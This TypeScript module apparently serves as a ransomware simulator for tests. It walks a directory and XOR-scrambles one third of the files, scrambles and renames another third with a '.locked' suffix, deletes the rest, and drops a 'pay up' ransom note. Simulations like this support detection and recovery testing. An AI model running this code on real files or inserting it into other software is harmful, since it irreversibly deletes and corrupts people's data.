import { readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { filesBelow } from './comparison.ts'

/** What ransomware does: a third encrypted in place, a third encrypted and renamed, a third deleted. */
export function ransomware(directory: string): { encrypted: number; renamed: number; deleted: number } {
  const counts = { encrypted: 0, renamed: 0, deleted: 0 }
  for (const [index, name] of filesBelow(directory).entries()) {
    const path = join(directory, name)
    if (index % 3 === 2) {
      rmSync(path)
      counts.deleted++
      continue
    }
    const content = readFileSync(path)
    for (let at = 0; at < content.length; at++) content[at] = (content[at] as number) ^ 0xa5
    writeFileSync(path, content)
    if (index % 3 === 1) {
      renameSync(path, `${path}.locked`)
      counts.renamed++
    } else counts.encrypted++
  }
  writeFileSync(join(directory, 'READ-ME-TO-DECRYPT.txt'), 'pay up\n')
  return counts
}
